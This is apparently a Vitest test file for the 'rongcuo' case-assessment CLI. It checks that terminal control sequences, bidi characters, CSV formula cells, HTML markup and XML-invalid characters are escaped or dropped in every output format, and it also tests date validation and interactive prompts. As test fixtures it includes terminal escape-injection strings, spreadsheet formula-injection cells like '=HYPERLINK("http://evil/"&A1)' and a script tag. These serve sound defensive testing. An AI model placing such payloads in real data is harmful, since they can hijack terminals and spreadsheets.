// Hardening of what rongcuo shows and writes: control characters from case
// data, policy files and file names never reach a terminal raw (text, table,
// CSV, Markdown, HTML, messages), while JSON keeps the data exact; CSV cells
// are safe in a spreadsheet; a docx never holds what XML 1.0 cannot.
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { generateCases } from '../bench/generate.mjs';
import { csvSafe, sanitizeForTerminal, terminalSafeJson, xmlSafe } from '../src/render/safe-text.js';
import { ROOT, rongcuo, tempDir } from './helpers/cli.js';
import { Terminal, run } from './helpers/pty.js';
import { unzip } from './helpers/zip.js';

/** Everything a terminal could act on or reorder: what must never come out raw. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
/** The same, line feeds and tabs included: what must not come out of a one-line view. */
const RAW_CONTROL_OR_NEWLINE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** An id with ESC, a CSI and an OSC sequence, CR, NUL, DEL, a C1 CSI, bidi overrides and isolates, U+2028. */
const EVIL_ID = 'x\u001b[2J\u001b]0;pwned\u0007\r\u0000\u007f\u009b31m\u202eevil\u2066\u2028end';
const EVIL_TITLE = '标题\u001b[31m红\u001b[0m\u202e反\u202c\r覆盖';

const fixtureCases = JSON.parse(readFileSync(join(ROOT, 'fixtures', 'cases.json'), 'utf8')).cases as Array<Record<string, unknown>>;
/** fixtures/cases.json 2024-017 (exempt under fuzhou-2019), as data to vary. */
const EXEMPT = fixtureCases.find((c) => c.id === '2024-017')!;

function caseLike(id: string, changes: { title?: string; name?: string; narrative?: string } = {}): Record<string, unknown> {
  const kase = structuredClone(EXEMPT) as { id: string; subject: Record<string, string>; matter: Record<string, string>; expected?: unknown };
  kase.id = id;
  delete kase.expected;
  if (changes.title !== undefined) kase.matter.title = changes.title;
  if (changes.name !== undefined) kase.subject.name = changes.name;
  if (changes.narrative !== undefined) kase.matter.narrative = changes.narrative;
  return kase;
}

function writeJson(dir: string, name: string, cases: unknown[]): string {
  const file = join(dir, name);
  writeFileSync(file, JSON.stringify({ formatVersion: 1, cases }));
  return file;
}

function writeNdjson(dir: string, name: string, cases: unknown[]): string {
  const file = join(dir, name);
  writeFileSync(file, `${cases.map((c) => JSON.stringify(c)).join('\n')}\n`);
  return file;
}

describe('sanitizeForTerminal: one scheme of visible escapes', () => {
  it('escapes C0, DEL and C1 as \\xHH (tab, LF, CR by name), bidi controls and separators as \\uHHHH', () => {
    expect(sanitizeForTerminal('a\u001b[31mb')).toBe('a\\x1b[31mb');
    expect(sanitizeForTerminal('\u0000\u0007\u007f\u009b')).toBe('\\x00\\x07\\x7f\\x9b');
    expect(sanitizeForTerminal('a\tb\nc\rd')).toBe('a\\tb\\nc\\rd');
    expect(sanitizeForTerminal('\u202a\u202e\u2066\u2069\u2028\u2029')).toBe('\\u202a\\u202e\\u2066\\u2069\\u2028\\u2029');
    expect(sanitizeForTerminal('lone \ud800 and \udc00')).toBe('lone \\ud800 and \\udc00');
  });

  it('leaves ordinary text, CJK and astral characters as they are (the same string)', () => {
    const text = '容错免责：第四条第(一)项　𠀀 é ™ ‘’ “” \\x1b';
    expect(sanitizeForTerminal(text)).toBe(text);
  });

  it('keeps line feeds and tabs in multi-line text; CRLF becomes LF, a bare CR is escaped', () => {
    expect(sanitizeForTerminal('一\n二\t三\r\n四\r五\u001b', { multiline: true })).toBe('一\n二\t三\n四\\r五\\x1b');
  });

  it('writes C1, bidi controls and separators in JSON as \\u escapes, which parse back to the same string', () => {
    const value = { id: EVIL_ID };
    const json = terminalSafeJson(JSON.stringify(value));
    expect(json).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(json)).toEqual(value);
    expect(terminalSafeJson('{"a":"普通"}')).toBe('{"a":"普通"}');
  });

  it('neutralises CSV cells a spreadsheet would run (OWASP): = + - @, tab and CR first', () => {
    for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(csvSafe(cell).startsWith("'")).toBe(true);
    expect(csvSafe('=HYPERLINK("http://x")')).toBe(`'=HYPERLINK("http://x")`);
    expect(csvSafe('2024-017')).toBe('2024-017');
  });

  it('drops from docx text what XML 1.0 cannot hold, and nothing else', () => {
    expect(xmlSafe('a\u0000b\u0001\u000b\u000c\u001fc\ufffe\uffffd\ud800e\udc00f')).toBe('abcdef');
    expect(xmlSafe('tab\tlf\ncr\r𠀀\u009b')).toBe('tab\tlf\ncr\r𠀀\u009b');
  });
});

describe('check: table and CSV escape controls, serial and parallel; JSON and NDJSON keep the data exact', () => {
  const ids = [EVIL_ID, '=HYPERLINK("http://evil/"&A1)', '+cmd', '-2+3', '@SUM(1)', '\t=tab', '普通-1'];

  it('shows a table with every control escaped, the ids still recognisable', () => {
    const dir = tempDir();
    const file = writeJson(dir, 'cases.json', ids.map((id) => caseLike(id)));
    const r = rongcuo(['check', file, '-p', 'fuzhou-2019', '-f', 'table']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('x\\x1b[2J\\x1b]0;pwned\\x07\\r\\x00\\x7f\\x9b31m\\u202eevil\\u2066\\u2028end');
    // Each row on its own line: an escaped CR or U+2028 breaks none.
    expect(r.stdout.split('\n').filter((l) => l.includes('抚州')).length).toBe(ids.length);
  }, 60_000);

  it('writes CSV with controls escaped and formula cells neutralised, the same serial and parallel (RONGCUO_WORKERS=2)', () => {
    const dir = tempDir();
    const file = writeNdjson(dir, 'cases.ndjson', ids.map((id) => caseLike(id)));
    const serial = rongcuo(['check', file, '-p', 'fuzhou-2019', '-f', 'csv'], { env: { RONGCUO_WORKERS: '0' } });
    const parallel = rongcuo(['check', file, '-p', 'fuzhou-2019', '-f', 'csv'], { env: { RONGCUO_WORKERS: '2', RONGCUO_CHUNK_BYTES: '4096' } });
    expect(serial.code).toBe(0);
    expect(parallel.stdout).toBe(serial.stdout);
    expect(serial.stdout.replace(/\r\n/g, '\n')).not.toMatch(RAW_CONTROL);
    const firstCells = serial.stdout.trimEnd().split('\r\n').slice(1).map((row) => row.split(',')[0]);
    expect(firstCells).toEqual([
      'x\\x1b[2J\\x1b]0;pwned\\x07\\r\\x00\\x7f\\x9b31m\\u202eevil\\u2066\\u2028end',
      `"'=HYPERLINK(""http://evil/""&A1)"`,
      "'+cmd",
      "'-2+3",
      "'@SUM(1)",
      "'\\t=tab",
      '普通-1',
    ]);
  }, 60_000);

  it('keeps every id exact in JSON and NDJSON, without raw controls, the same serial and parallel', () => {
    const dir = tempDir();
    const file = writeNdjson(dir, 'cases.ndjson', ids.map((id) => caseLike(id)));
    for (const format of ['json', 'ndjson']) {
      const serial = rongcuo(['check', file, '-p', 'fuzhou-2019', '-f', format], { env: { RONGCUO_WORKERS: '0' } });
      const parallel = rongcuo(['check', file, '-p', 'fuzhou-2019', '-f', format], { env: { RONGCUO_WORKERS: '2', RONGCUO_CHUNK_BYTES: '4096' } });
      expect(serial.code).toBe(0);
      expect(parallel.stdout).toBe(serial.stdout);
      expect(serial.stdout).not.toMatch(RAW_CONTROL);
      const results = format === 'json' ? JSON.parse(serial.stdout).results : serial.stdout.trimEnd().split('\n').map((l) => JSON.parse(l));
      expect(results.map((r: { case: string }) => r.case)).toEqual(ids);
    }
  }, 60_000);

  it('tells invalid cases on stderr and in the table with the user’s keys and values escaped', () => {
    const dir = tempDir();
    const bad = { id: EVIL_ID, policy: 'fuzhou-2019', facts: { '\u001b[31mintent': true, severity: '\u001b]0;x\u0007' } };
    const file = writeNdjson(dir, 'bad.ndjson', [bad]);
    for (const format of ['json', 'table']) {
      const r = rongcuo(['check', file, '-f', format]);
      expect(r.code).toBe(2);
      expect(r.stderr + r.stdout).toContain('facts.\\x1b[31mintent');
      expect(r.stderr).not.toMatch(RAW_CONTROL);
      if (format === 'table') expect(r.stdout).not.toMatch(RAW_CONTROL);
      else expect(JSON.parse(r.stdout).results[0].case).toBe(EVIL_ID);
    }
  }, 60_000);
});

describe('report, draft and messages escape controls; HTML escapes markup', () => {
  it('report text, md and html show title and name escaped; JSON keeps them exact', () => {
    const dir = tempDir();
    const file = writeJson(dir, 'cases.json', [caseLike(EVIL_ID, { title: EVIL_TITLE, name: '<script>alert(1)</script>\u001b[8m' })]);
    for (const format of ['text', 'md', 'html']) {
      const r = rongcuo(['report', file, '-f', format]);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).not.toMatch(RAW_CONTROL);
      // Markdown escapes the escapes' backslashes and brackets: as rendered, they read the same.
      const rendered = format === 'md' ? r.stdout.replace(/\\(.)/g, '$1') : r.stdout;
      expect(rendered).toContain('标题\\x1b[31m红\\x1b[0m\\u202e反\\u202c\\r覆盖');
      if (format === 'html') {
        expect(r.stdout).not.toContain('<script>');
        expect(r.stdout).toContain('&lt;script&gt;alert(1)&lt;/script&gt;\\x1b[8m');
      }
    }
    const json = rongcuo(['report', file, '-f', 'json']);
    expect(json.code).toBe(0);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const report = JSON.parse(json.stdout).reports[0];
    expect(report.case.id).toBe(EVIL_ID);
    expect(report.case.matter.title).toBe(EVIL_TITLE);
  }, 60_000);

  it('draft text keeps the narrative’s line breaks but escapes controls and bare CRs', () => {
    const dir = tempDir();
    const file = writeJson(dir, 'cases.json', [caseLike('d-1', { narrative: '第一段\u001b[2K。\r\n第二段\r覆盖\u202e。' })]);
    const r = rongcuo(['draft', file]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('　　第一段\\x1b[2K。\n　　第二段\\r覆盖\\u202e。');
  }, 60_000);

  it('echoes ids and file names in error messages with controls escaped', () => {
    const dir = tempDir();
    const file = writeJson(dir, 'cases.json', [caseLike('only-one')]);
    const noCase = rongcuo(['report', file, '--case', '\u001b]0;pwned\u0007\u001b[2J']);
    expect(noCase.code).toBe(2);
    expect(noCase.stderr).toContain('\\x1b]0;pwned\\x07\\x1b[2J');
    expect(noCase.stderr).not.toMatch(RAW_CONTROL);
    const noFile = rongcuo(['check', join(dir, 'evil\u001b[2J\r.json')]);
    expect(noFile.code).toBe(2);
    expect(noFile.stderr).toContain('evil\\x1b[2J\\r.json');
    expect(noFile.stderr).not.toMatch(RAW_CONTROL);
    const badTitle = writeJson(dir, 'bad.json', [{ ...caseLike('bad-1'), matter: { title: 1 } }, { id: 'x', facts: { '\u009b2J': true } }]);
    const invalid = rongcuo(['report', badTitle]);
    expect(invalid.code).toBe(2);
    expect(invalid.stderr).toContain('facts.\\x9b2J');
    expect(invalid.stderr).not.toMatch(RAW_CONTROL);
  }, 60_000);

  it('policies show and validate escape a policy file’s controls', () => {
    const dir = tempDir();
    const yaml = readFileSync(join(ROOT, 'fixtures', 'policy-custom.yaml'), 'utf8');
    const title = /^title: (.*)$/m.exec(yaml)![1]!;
    const file = join(dir, 'evil.yaml');
    writeFileSync(file, yaml.replace(/^title: .*$/m, `title: "${title.replace(/^"|"$/g, '')}\\e[2J\\u202e"`));
    const show = rongcuo(['policies', 'show', file]);
    expect(show.code, show.stderr).toBe(0);
    expect(show.stdout).toContain('\\x1b[2J\\u202e');
    expect(show.stdout).not.toMatch(RAW_CONTROL);
    const validate = rongcuo(['policies', 'validate', file]);
    expect(validate.code, validate.stderr).toBe(0);
    expect(validate.stdout).toContain('\\x1b[2J\\u202e');
    expect(validate.stdout).not.toMatch(RAW_CONTROL);
  }, 60_000);
});


describe('report streams: memory stays bounded whatever the number of cases', () => {
  it('writes `report --format json` for 2,000 cases under a 64 MB heap (the whole document held at once needed over 128 MB)', () => {
    const dir = tempDir();
    const cases = Array.from({ length: 2000 }, (_, i) => caseLike(`bulk-${i}`));
    const file = writeJson(dir, 'bulk.json', cases);
    const out = join(dir, 'reports.json');
    const r = rongcuo(['report', file, '-f', 'json', '-o', out], { env: { NODE_OPTIONS: '--max-old-space-size=64' } });
    expect(r.code, r.stderr).toBe(0);
    const reports = JSON.parse(readFileSync(out, 'utf8')).reports as Array<{ case: { id: string }; assessment: { outcome: string } }>;
    expect(reports).toHaveLength(2000);
    expect(reports[1999]!.case.id).toBe('bulk-1999');
    expect(new Set(reports.map((x) => x.assessment.outcome))).toEqual(new Set(['exempt']));
  }, 120_000);

  it('streams each format byte for byte as the document built whole (JSON.stringify of all reports, views joined)', async () => {
    const { renderReport, reportBlocks, REPORT_TITLE } = await import('../src/render/report.js');
    const { renderHtmlPage } = await import('../src/render/blocks.js');
    const { loadCases, reportDataEach } = await import('../src/commands/report-input.js');
    const { makeChalk } = await import('../src/render/style.js');
    const file = join(ROOT, 'fixtures', 'report-cases.json');
    const inputs = [...reportDataEach(await loadCases(file, {}), '2026-10-09')];
    const plain = makeChalk(false);
    const whole = {
      json: `${JSON.stringify({ reports: inputs }, null, 2)}\n`,
      text: inputs.map((i) => renderReport(i, 'text', plain)).join(`\n${'═'.repeat(60)}\n\n`),
      md: inputs.map((i) => renderReport(i, 'md', plain)).join('\n---\n\n'),
      html: renderHtmlPage(REPORT_TITLE, inputs.map(reportBlocks)),
    };
    for (const [format, expected] of Object.entries(whole)) {
      const r = rongcuo(['report', file, '-f', format], { env: { RONGCUO_TODAY: '2026-10-09' } });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout, format).toBe(expected);
    }
  }, 60_000);
});

describe('dates: an impossible date is refused wherever dates are read, with the reason', () => {
  const IMPOSSIBLE = ['2024-02-30', '2023-02-29', '2024-13-01', '2024-04-31'];

  it('isIsoDate: one definition, real days only', async () => {
    const { isIsoDate, isoDateProblem } = await import('../src/case/iso-date.js');
    const validate = await import('../src/case/validate.js');
    expect(validate.isIsoDate).toBe(isIsoDate);
    for (const d of IMPOSSIBLE) expect(isIsoDate(d), d).toBe(false);
    for (const d of ['2024-02-29', '2000-02-29', '2023-12-31', '2026-10-09']) expect(isIsoDate(d), d).toBe(true);
    expect(isIsoDate('1900-02-29')).toBe(false);
    expect(isoDateProblem('2023-02-29')).toBe('应为实际存在的日期：2023年2月只有28天');
    expect(isoDateProblem('2024-13-01')).toContain('月份应为 01 至 12');
    expect(isoDateProblem('2024-5-1')).toBe('应为 ISO 日期 YYYY-MM-DD，例如 2024-05-10');
  });

  it('refuses them in case files, located by case and field, for check, report and draft', () => {
    const dir = tempDir();
    const cases = IMPOSSIBLE.map((d, i) => ({ ...caseLike(`date-${i}`), matter: { ...(caseLike('x').matter as object), accountabilityStartedOn: d } }));
    const file = writeJson(dir, 'dates.json', cases);
    const report = rongcuo(['report', file]);
    expect(report.code).toBe(2);
    expect(report.stderr).toContain('cases[0].matter.accountabilityStartedOn：应为实际存在的日期：2024年2月只有29天；收到字符串 "2024-02-30"');
    expect(report.stderr).toContain('cases[1].matter.accountabilityStartedOn：应为实际存在的日期：2023年2月只有28天');
    expect(report.stderr).toContain('cases[3].matter.accountabilityStartedOn：应为实际存在的日期：2024年4月只有30天');
    expect(report.stderr).not.toContain('内部错误');
    const check = rongcuo(['check', file, '-f', 'json']);
    expect(check.code).toBe(2);
    expect(JSON.parse(check.stdout).summary.invalid).toBe(4);
    const draft = rongcuo(['draft', file, '--case', 'date-2']);
    expect(draft.code).toBe(2);
    expect(draft.stderr).toContain('月份应为 01 至 12');
  }, 60_000);

  it('refuses them in RONGCUO_TODAY with a message naming the variable, never an internal error', () => {
    for (const d of IMPOSSIBLE) {
      const r = rongcuo(['report', join(ROOT, 'fixtures', 'cases.json'), '--case', '2024-017'], { env: { RONGCUO_TODAY: d } });
      expect(r.code, d).toBe(2);
      expect(r.stderr).toContain(`环境变量 RONGCUO_TODAY=${d}：应为实际存在的日期`);
      expect(r.stderr).not.toContain('内部错误');
    }
  }, 60_000);
});

const ENTER = '\r';
const BACKSPACE = '\x7f';

describe.skipIf(process.platform === 'win32')('the interview in a terminal: dates, redirected output, TERM=dumb', () => {
  it('asks a date again when it is not a real day, and keeps every answer', async () => {
    const dir = tempDir();
    const t = new Terminal(['assess', '--policy', 'fuzhou-2019'], dir);
    await run(t, async () => {
      await t.answer('申请容错的是个人还是单位？', `1${ENTER}`);
      await t.answer('当事人姓名', `王某${ENTER}`);
      for (const p of ['所在单位', '职务', '事项名称']) await t.answer(p, ENTER);
      await t.answer('失误发生日期', `2024-01-15${ENTER}`);
      await t.expect('问责程序启动日期');
      t.send(`2024-02-30${ENTER}`);
      await t.expect('2024年2月只有29天');
      t.send(`${BACKSPACE.repeat(10)}2023-02-29${ENTER}`);
      await t.expect('2023年2月只有28天');
      t.send(`${BACKSPACE.repeat(10)}2024-02-29${ENTER}`);
      await t.expect(/✔ 问责程序启动日期[^\n]*2024-02-29/);
      await t.answer('的适用对象？', `1${ENTER}`);
      await t.expect('看节点：');
      t.send('\x03');
      await t.expect('继续问询：');
    });
    expect(await t.exited).toBe(130);
    expect(t.text).not.toContain('内部错误');
    const session = readdirSync(dir).find((f) => /^rongcuo-session-.*\.json$/.test(f))!;
    const saved = JSON.parse(readFileSync(join(dir, session), 'utf8'));
    expect(saved.case.subject).toEqual({ kind: 'individual', name: '王某' });
    expect(saved.case.matter).toEqual({ occurredOn: '2024-01-15', accountabilityStartedOn: '2024-02-29' });
  }, 60_000);

  const SEVERITY_UNKNOWN = join(ROOT, 'fixtures', 'answers-severity-unknown.json');
  /** TERM=dumb alone: neither NO_COLOR nor FORCE_COLOR, so that colours are off because of it. */
  const DUMB = { TERM: 'dumb', NO_COLOR: undefined, FORCE_COLOR: undefined };

  it('asks on the terminal when standard output is redirected, and writes only the report there', async () => {
    const dir = tempDir();
    const out = join(dir, 'report.txt');
    const t = new Terminal(['assess', '--answers', SEVERITY_UNKNOWN], dir, { stdoutTo: out });
    await run(t, async () => {
      await t.answer('看后果：', `2${ENTER}`);
      await t.expect('按目前的回答，结论为“容错免责”');
      t.send(ENTER);
      await t.expect('评估意见书已写到标准输出');
      await t.answer('是否起草容错认定申请书？', `n${ENTER}`);
      await t.answer('保存评估意见书？', `3${ENTER}`);
      await t.answer('保存案例文件', `n${ENTER}`);
    });
    expect(await t.exited).toBe(0);
    const report = readFileSync(out, 'utf8');
    expect(report).toContain('结论：容错免责');
    // Only the report: no prompt, no escape sequence (the file is not a terminal).
    expect(report).not.toContain('按目前的回答');
    expect(report).not.toContain('✔');
    expect(report).not.toContain('\u001b');
    expect(t.text).not.toContain('结论：容错免责');
  }, 60_000);

  it('shows a case file’s controls escaped in the prompts, full-screen and plain', async () => {
    const dir = tempDir();
    const answers = JSON.parse(readFileSync(SEVERITY_UNKNOWN, 'utf8'));
    answers.cases[0].subject.name = 'x\u001b]0;pwned\u0007\u202ey';
    const file = join(dir, 'answers.json');
    writeFileSync(file, JSON.stringify(answers));
    for (const term of ['xterm-256color', 'dumb']) {
      const t = new Terminal(['assess', '--answers', file], dir, { env: { TERM: term } });
      await run(t, async () => {
        await t.answer('看后果：', `2${ENTER}`);
        await t.expect('姓名：x\\x1b]0;pwned\\x07\\u202ey');
        t.send('\x03');
        await t.expect('继续问询：');
      });
      expect(await t.exited).toBe(130);
      expect(t.rawText).not.toContain('\u001b]0;pwned');
      expect(t.rawText).not.toContain('\u202e');
    }
  }, 60_000);

  it('under TERM=dumb asks in plain lines, without a single escape sequence, and saves on Ctrl-C', async () => {
    const dir = tempDir();
    const t = new Terminal(['assess', '--answers', SEVERITY_UNKNOWN], dir, { env: DUMB });
    await run(t, async () => {
      await t.expect('? 看后果：造成了怎样的损失或影响？');
      await t.expect(' 2. 一定损失或一般不良影响，可控');
      t.send(`9${ENTER}`);
      await t.expect('请输入 1 至 5 之间的序号。');
      t.send(`2${ENTER}`);
      await t.expect(/✔ 看后果：[^\n]*一定损失/);
      await t.expect('按目前的回答，结论为“容错免责”');
      // A question's name jumps to it, as in the full-screen prompts.
      t.send(`后果${ENTER}`);
      await t.answer('? 看后果：', `3${ENTER}`);
      await t.expect('按目前的回答，结论为');
      t.send('\x03');
      await t.expect('继续问询：');
    });
    expect(await t.exited).toBe(130);
    expect(t.rawText).not.toContain('\u001b');
    expect(t.rawText).not.toContain('\u009b');
    const session = readdirSync(dir).find((f) => /^rongcuo-session-.*\.json$/.test(f))!;
    expect(JSON.parse(readFileSync(join(dir, session), 'utf8')).case.facts.severity).toBe('major');
  }, 60_000);

  it('under TERM=dumb shows no progress line in check (it is redrawn with cursor controls)', async () => {
    const dir = tempDir();
    const file = join(dir, 'cases.ndjson');
    writeFileSync(file, `${[...generateCases(5000)].map((c) => JSON.stringify(c)).join('\n')}\n`);
    const env = { ...DUMB, CI: undefined, RONGCUO_PROGRESS_AFTER_MS: '0', RONGCUO_WORKERS: '0' };
    const t = new Terminal(['check', file, '--all-policies', '-o', join(dir, 'out.json')], dir, { env });
    expect(await t.exited).toBe(0);
    expect(t.rawText).not.toContain('已处理');
    expect(t.rawText).not.toContain('\u001b');
  }, 60_000);

  it('under TERM=dumb goes through a whole interview to the end', async () => {
    const dir = tempDir();
    const t = new Terminal(['assess', '--answers', SEVERITY_UNKNOWN], dir, { env: DUMB });
    await run(t, async () => {
      await t.answer('? 看后果：', `2${ENTER}`);
      await t.answer('按目前的回答，结论为“容错免责”', ENTER);
      await t.expect('结论：容错免责');
      await t.answer('是否起草容错认定申请书？', `n${ENTER}`);
      await t.answer('保存评估意见书？', `1${ENTER}`);
      await t.answer('保存到：', ENTER);
      await t.expect('已保存：');
      await t.answer('保存案例文件', `否${ENTER}`);
    });
    expect(await t.exited).toBe(0);
    expect(t.rawText).not.toContain('\u001b');
    expect(readdirSync(dir).some((f) => f.endsWith('-评估意见书.md'))).toBe(true);
  }, 60_000);
});

describe('docx: what XML 1.0 cannot hold never reaches the Word file', () => {
  /** C0 controls but tab, LF, CR; U+FFFE, U+FFFF; lone surrogates. */
  const XML_UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

  it('drops them from the draft docx, says so on stderr with the fields, and keeps the text around them (markup escaped)', () => {
    const dir = tempDir();
    const kase = caseLike('docx-1', { title: '标题\u0000甲', narrative: '事实\u0001经过\u000b，<w:p>&amp;\ufffe\uffff\ud800结束。' });
    const file = writeJson(dir, 'cases.json', [kase]);
    const out = join(dir, '申请书.docx');
    const r = rongcuo(['draft', file, '-o', out]);
    expect(r.code, r.stderr).toBe(0);
    // The title twice (its line and the opening), five in the narrative.
    expect(r.stderr).toContain('已从申请书中删除 7 个无法写入 Word 文件的控制字符（案例字段 matter.title、matter.narrative）。');
    const files = unzip(readFileSync(out));
    for (const [name, xml] of files) if (name.endsWith('.xml') || name.endsWith('.rels')) expect(xml, name).not.toMatch(XML_UNSAFE);
    const document = files.get('word/document.xml')!;
    expect(document).toContain('事实经过，&lt;w:p&gt;&amp;amp;结束。');
    expect(document).toContain('关于“标题甲”的容错认定申请');
    expect(files.get('docProps/core.xml')).toContain('标题甲');
  }, 60_000);

  it('says nothing when there is nothing to drop', () => {
    const dir = tempDir();
    const file = writeJson(dir, 'cases.json', [caseLike('docx-2')]);
    const r = rongcuo(['draft', file, '-o', join(dir, 'a.docx')]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).not.toContain('已从申请书中删除');
  }, 60_000);
});
